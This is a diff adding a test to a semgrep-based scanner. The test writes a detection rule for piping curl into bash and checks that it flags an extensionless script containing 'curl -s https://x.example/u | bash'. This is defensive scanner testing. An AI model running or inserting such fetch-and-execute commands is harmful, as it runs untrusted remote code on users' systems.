@@ -63,3 +63,13 @@ def test_crashing_semgrep_is_an_error(rules: Path, monkeypatch: pytest.MonkeyPat
 def test_binary_files_never_reach_semgrep(rules: Path) -> None:
     binary = ChangedFile(path="x.py", content=b"exec(x)\x00", added=frozenset({1}), is_binary=True)
     assert semgrep.run([binary], rules / "semgrep", timeout=30, jobs=1, max_bytes=100_000).matches == ()
+
+
+def test_extensionless_scripts_are_scanned_by_their_shebang(tmp_path: Path) -> None:
+    (tmp_path / "sh-test.yml").write_text(
+        "rules:\n  - id: sh-test\n    severity: HIGH\n    languages: [bash]\n    message: m\n"
+        "    pattern: curl ... | bash\n"
+    )
+    script = changed("tools/uploader", "#!/bin/bash\ncurl -s https://x.example/u | bash\n")
+    result = semgrep.run([script], tmp_path, timeout=30, jobs=1, max_bytes=100_000)
+    assert [(m.path, m.line) for m in result.matches] == [("tools/uploader", 2)]
